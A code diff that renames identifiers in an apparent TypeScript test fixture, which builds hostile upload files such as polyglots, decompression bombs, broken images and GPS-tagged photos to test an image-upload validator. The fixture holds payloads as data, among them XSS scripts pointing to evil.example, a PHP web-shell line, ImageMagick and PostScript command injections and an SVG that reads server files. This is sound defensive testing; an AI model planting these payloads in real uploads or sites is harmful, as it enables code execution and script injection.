@@ -4,13 +4,13 @@ import sharp from 'sharp';
 import { animation, bomb, encodePng, phonePhoto, photograph, pngChunk } from './uploads.harness.js';
 
 /** Outcome of an upload: the file is refused for this reason, or encoded again from its pixels. */
-type Fate = 'TYPE' | 'PIXELS' | 'BROKEN' | 'COSTLY' | 'EMPTY' | 'TOO_LARGE' | 'MADE_ANEW';
+type Outcome = 'TYPE' | 'PIXELS' | 'BROKEN' | 'COSTLY' | 'EMPTY' | 'TOO_LARGE' | 'REENCODED';
 
 export interface HostileFile {
   name: string;
   content: Buffer;
   /** Accepted outcomes: more than one if the result depends on the version of the decoding library. */
-  fates: Fate[];
+  outcomes: Outcome[];
 }
 
 const MEGABYTE = 1024 * 1024;
@@ -18,17 +18,17 @@ const SCRIPT = '<script>alert(1)</script>';
 
 const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');
 const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex');
-const filled = (start: Buffer): Buffer => Buffer.concat([start, randomBytes(4096)]);
+const padWithNoise = (start: Buffer): Buffer => Buffer.concat([start, randomBytes(4096)]);
 
-const named = (fates: Fate[], files: Record<string, Buffer>): HostileFile[] =>
-  Object.entries(files).map(([name, content]) => ({ name, content, fates }));
+const toFiles = (outcomes: Outcome[], files: Record<string, Buffer>): HostileFile[] =>
+  Object.entries(files).map(([name, content]) => ({ name, content, outcomes }));
 
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
 
 /** Files of other types. Some of them could be decoded as pictures. */
-async function otherTypes(): Promise<HostileFile[]> {
+async function buildOtherTypes(): Promise<HostileFile[]> {
   const picture = photograph();
-  return named(['TYPE'], {
+  return toFiles(['TYPE'], {
     'an SVG with a script': ascii(svg),
     'an SVG behind a declaration': ascii(`<?xml version="1.0"?>${svg}`),
     'an SVG that reads a file of the server': ascii(
@@ -46,16 +46,16 @@ async function otherTypes(): Promise<HostileFile[]> {
     'a PostScript file': ascii('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'),
     'commands of ImageMagick': ascii('push graphic-context\nfill \'url(https://127.0.0.1/"|id")\'\npop graphic-context'),
     'an archive': hex(`504b0506${'00'.repeat(18)}`),
-    'a program for Linux': filled(hex('7f454c46 020101')),
-    'a program for Windows': filled(ascii('MZ')),
-    'a film': filled(hex('00000020 667479706d703432')),
-    'a HEIC photo': filled(hex('00000020 6674797068656963')),
-    'a JPEG 2000': filled(hex('0000000c 6a5020200d0a870a')),
-    'a Photoshop file': filled(ascii('8BPS')),
-    'an icon': filled(hex('00000100 0100')),
-    'a BMP': filled(ascii('BM')),
-    'a RIFF that is no WebP': filled(ascii('RIFF\x24\x10\x00\x00AVI ')),
-    'a PNG whose signature lost its line ends': filled(hex('89504e47 0a0a1a0a')),
+    'a program for Linux': padWithNoise(hex('7f454c46 020101')),
+    'a program for Windows': padWithNoise(ascii('MZ')),
+    'a film': padWithNoise(hex('00000020 667479706d703432')),
+    'a HEIC photo': padWithNoise(hex('00000020 6674797068656963')),
+    'a JPEG 2000': padWithNoise(hex('0000000c 6a5020200d0a870a')),
+    'a Photoshop file': padWithNoise(ascii('8BPS')),
+    'an icon': padWithNoise(hex('00000100 0100')),
+    'a BMP': padWithNoise(ascii('BM')),
+    'a RIFF that is no WebP': padWithNoise(ascii('RIFF\x24\x10\x00\x00AVI ')),
+    'a PNG whose signature lost its line ends': padWithNoise(hex('89504e47 0a0a1a0a')),
     'a GIF': await picture.clone().gif().toBuffer(),
     'an AVIF': await picture.clone().avif().toBuffer(),
     'a TIFF': await picture.clone().tiff().toBuffer(),
@@ -65,27 +65,28 @@ async function otherTypes(): Promise<HostileFile[]> {
 }
 
 /** Real pictures that are something else as well. */
-async function polyglots(): Promise<HostileFile[]> {
+async function buildPolyglots(): Promise<HostileFile[]> {
   const [png, jpeg, webp] = [
     await photograph().png().toBuffer(),
     await photograph().jpeg().toBuffer(),
     await photograph().webp().toBuffer(),
   ];
   const archive = hex(`504b0506${'00'.repeat(18)}`);
-  const comment = (text: string) => Buffer.concat([jpeg.subarray(0, 2), hex('fffe'), measureLength(text), ascii(text), jpeg.subarray(2)]);
-  const after = (picture: Buffer, text: string) => Buffer.concat([picture, ascii(text)]);
-  return named(['TYPE'], {
+  const insertComment = (text: string) =>
+    Buffer.concat([jpeg.subarray(0, 2), hex('fffe'), measureLength(text), ascii(text), jpeg.subarray(2)]);
+  const append = (picture: Buffer, text: string) => Buffer.concat([picture, ascii(text)]);
+  return toFiles(['TYPE'], {
     'a PNG before an archive': Buffer.concat([png, archive]),
     'a JPEG before an archive': Buffer.concat([jpeg, archive]),
     'a WebP before an archive': Buffer.concat([webp, archive]),
-    'a PNG before a page': after(png, '<!DOCTYPE html>'),
-    'a JPEG before a script': after(jpeg, SCRIPT),
-    'a WebP before a script in odd letters': after(webp, '<sCrIpT\nsrc=//evil.example></sCrIpT>'),
-    'a PNG before a script of a server': after(png, '<?php system($_GET[0]);'),
-    'a WebP before an SVG': after(webp, svg),
-    'a JPEG before a frame': after(jpeg, '<iframe src="//evil.example">'),
-    'a JPEG with a script in its comment': comment(SCRIPT),
-    'a JPEG with a page in its comment': comment('<html onload=alert(1)>'),
+    'a PNG before a page': append(png, '<!DOCTYPE html>'),
+    'a JPEG before a script': append(jpeg, SCRIPT),
+    'a WebP before a script in odd letters': append(webp, '<sCrIpT\nsrc=//evil.example></sCrIpT>'),
+    'a PNG before a script of a server': append(png, '<?php system($_GET[0]);'),
+    'a WebP before an SVG': append(webp, svg),
+    'a JPEG before a frame': append(jpeg, '<iframe src="//evil.example">'),
+    'a JPEG with a script in its comment': insertComment(SCRIPT),
+    'a JPEG with a page in its comment': insertComment('<html onload=alert(1)>'),
     'a PNG with a script in its text': withText(png, 'tEXt', ascii(`Comment\0${SCRIPT}`)),
     'a PNG with a PDF near its start': withText(png, 'tEXt', ascii('Comment\0%PDF-1.4')),
     'a JPEG with a script of a server in its EXIF': await photograph()
@@ -106,7 +107,7 @@ const withText = (png: Buffer, type: string, ...data: Buffer[]): Buffer =>
   Buffer.concat([png.subarray(0, 33), ...data.map((one) => pngChunk(type, one)), png.subarray(33)]);
 
 /** Small files that take much memory or time to decode, or claim a size that would. */
-async function bombs(): Promise<HostileFile[]> {
+async function buildBombs(): Promise<HostileFile[]> {
   const png = await photograph().png().toBuffer();
   const jpeg = await photograph().jpeg().toBuffer();
   const frames = Array.from({ length: 200 }, (_, index) =>
@@ -121,30 +122,30 @@ async function bombs(): Promise<HostileFile[]> {
   const large = { create: { width: 9_000, height: 9_000, channels: 3, background: '#a33' } } as const;
   const zeros = deflateSync(Buffer.alloc(60 * MEGABYTE), { level: 9 });
   return [
-    ...named(['PIXELS'], {
+    ...toFiles(['PIXELS'], {
       'a PNG of 400 megapixels': bomb(20_000),
       'a JPEG of 81 megapixels': await sharp(large).jpeg({ quality: 30 }).toBuffer(),
       'a progressive JPEG of 81 megapixels': await sharp(large).jpeg({ quality: 30, progressive: true }).toBuffer(),
       'a WebP of 81 megapixels': await sharp(large).webp({ lossless: true, effort: 0 }).toBuffer(),
     }),
-    ...named(['PIXELS', 'BROKEN'], {
+    ...toFiles(['PIXELS', 'BROKEN'], {
       'a PNG that claims four gigapixels': encodePng({ width: 65_535, height: 65_535 }, zeros),
       'a PNG that is two billion pixels wide': encodePng({ width: 2 ** 31 - 1, height: 1 }, zeros),
       'a PNG without any width': encodePng({ width: 0, height: 10 }, zeros),
-      'a JPEG that claims 65,500 pixels each way': claiming(jpeg, 65_500),
+      'a JPEG that claims 65,500 pixels each way': claimSize(jpeg, 65_500),
     }),
-    ...named(['MADE_ANEW', 'BROKEN', 'COSTLY'], {
+    ...toFiles(['REENCODED', 'BROKEN', 'COSTLY'], {
       'a PNG with a text of 60 MB': withText(png, 'zTXt', Buffer.concat([ascii('Comment\0\0'), zeros])),
       'a PNG with a colour profile of 60 MB': withText(png, 'iCCP', Buffer.concat([ascii('Profile\0\0'), zeros])),
       'a PNG of 50,000 chunks': withText(png, 'tEXt', ...Array.from({ length: 50_000 }, () => ascii('a\0b'))),
       'a PNG with more pixels in it than it claims': encodePng({ width: 10, height: 10 }, zeros),
     }),
-    ...named(['MADE_ANEW'], { 'an animation of 200 pictures': moving, 'a PNG of 39 megapixels': bomb(6_300) }),
+    ...toFiles(['REENCODED'], { 'an animation of 200 pictures': moving, 'a PNG of 39 megapixels': bomb(6_300) }),
   ];
 }
 
 /** Changes the height and the width that a baseline JPEG claims. */
-function claiming(jpeg: Buffer, side: number): Buffer {
+function claimSize(jpeg: Buffer, side: number): Buffer {
   const changed = Buffer.from(jpeg);
   const frame = changed.indexOf(hex('ffc0'));
   changed.writeUInt16BE(side, frame + 5);
@@ -153,36 +154,36 @@ function claiming(jpeg: Buffer, side: number): Buffer {
 }
 
 /** Pictures that were cut off, damaged, or never had any content. */
-async function broken(): Promise<HostileFile[]> {
+async function buildBrokenPictures(): Promise<HostileFile[]> {
   const large = photograph(800, 600);
   const [png, jpeg, webp] = [
     await large.clone().png().toBuffer(),
     await large.clone().jpeg().toBuffer(),
     await large.clone().webp().toBuffer(),
   ];
-  const half = (picture: Buffer) => picture.subarray(0, picture.length / 2);
+  const cutInHalf = (picture: Buffer) => picture.subarray(0, picture.length / 2);
   const damaged = Buffer.from(png);
   damaged.fill(0xff, 60, 90);
-  return named(['BROKEN'], {
-    'half a PNG': half(png),
-    'half a JPEG': half(jpeg),
-    'half a WebP': half(webp),
+  return toFiles(['BROKEN'], {
+    'half a PNG': cutInHalf(png),
+    'half a JPEG': cutInHalf(jpeg),
+    'half a WebP': cutInHalf(webp),
     'the signature of a PNG': png.subarray(0, 8),
     'the start of a JPEG': hex('ffd8ffe000104a464946'),
     'the start of a WebP': webp.subarray(0, 16),
     'a damaged PNG': damaged,
     'a PNG without pixels': encodePng({ width: 10, height: 10 }, deflateRawSync(Buffer.alloc(0))),
-    'noise behind the start of a JPEG': filled(hex('ffd8ffdb')),
+    'noise behind the start of a JPEG': padWithNoise(hex('ffd8ffdb')),
   });
 }
 
 /** Pictures whose metadata reveals their owner. */
-async function talkative(): Promise<HostileFile[]> {
-  const place = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 7/1' }, IFD0: { Make: 'Meetphone' } };
-  return named(['MADE_ANEW'], {
+async function buildRevealingPictures(): Promise<HostileFile[]> {
+  const location = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 7/1' }, IFD0: { Make: 'Meetphone' } };
+  return toFiles(['REENCODED'], {
     'a JPEG with the place where it was taken': await phonePhoto(),
-    'a PNG with the place where it was taken': await photograph().png().withExif(place).toBuffer(),
-    'a WebP with the place where it was taken': await photograph().webp().withExif(place).toBuffer(),
+    'a PNG with the place where it was taken': await photograph().png().withExif(location).toBuffer(),
+    'a WebP with the place where it was taken': await photograph().webp().withExif(location).toBuffer(),
     'a JPEG with the name of its author': await photograph()
       .jpeg()
       .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">Meetphone</x:xmpmeta>')
@@ -191,14 +192,23 @@ async function talkative(): Promise<HostileFile[]> {
   });
 }
 
-const sizes = async (): Promise<HostileFile[]> => [
-  ...named(['EMPTY'], { 'an empty file': Buffer.alloc(0) }),
-  ...named(['TOO_LARGE'], {
+const buildWrongSizes = async (): Promise<HostileFile[]> => [
+  ...toFiles(['EMPTY'], { 'an empty file': Buffer.alloc(0) }),
+  ...toFiles(['TOO_LARGE'], {
     'a file of 11 MB': Buffer.alloc(11 * MEGABYTE),
     'a picture with 10 MB behind it': Buffer.concat([await photograph().png().toBuffer(), Buffer.alloc(10 * MEGABYTE)]),
   }),
 ];
 
-export async function hostileFiles(): Promise<HostileFile[]> {
-  return (await Promise.all([otherTypes(), polyglots(), bombs(), broken(), talkative(), sizes()])).flat();
+export async function buildHostileFiles(): Promise<HostileFile[]> {
+  return (
+    await Promise.all([
+      buildOtherTypes(),
+      buildPolyglots(),
+      buildBombs(),
+      buildBrokenPictures(),
+      buildRevealingPictures(),
+      buildWrongSizes(),
+    ])
+  ).flat();
 }
